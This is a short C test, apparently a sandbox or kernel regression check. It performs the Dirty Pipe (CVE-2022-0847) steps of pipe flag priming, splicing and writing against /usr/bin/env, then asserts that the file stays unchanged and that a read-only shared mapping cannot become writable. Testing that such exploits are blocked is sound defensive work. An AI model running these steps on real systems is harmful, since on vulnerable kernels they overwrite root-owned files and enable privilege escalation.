// Dirty Pipe (CVE-2022-0847): a page of a file that all share, spliced into a pipe and then written to.
// verdicts: ACCEPTED
#include "held.h"
int main(void) {
  char before[64], after[64], block[4096];
  int file = open("/usr/bin/env", O_RDONLY), ends[2];
  if (file < 0 || pread(file, before, sizeof before, 0) != sizeof before || pipe(ends)) escaped("no file");
  long size = fcntl(ends[1], F_GETPIPE_SZ);
  for (long left = size; left > 0;) left -= write(ends[1], block, left < 4096 ? left : 4096);
  for (long left = size; left > 0;) left -= read(ends[0], block, left < 4096 ? left : 4096);
  loff_t offset = 0;
  splice(file, &offset, ends[1], NULL, 1, 0);
  if (write(ends[1], "DIRTY PIPE", 10) < 0) return 1;
  if (pread(file, after, sizeof after, 0) != sizeof after || memcmp(before, after, sizeof after)) escaped("written");
  char *mapped = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
  MUST_FAIL(mprotect(mapped, 4096, PROT_READ | PROT_WRITE));
  return held();
}
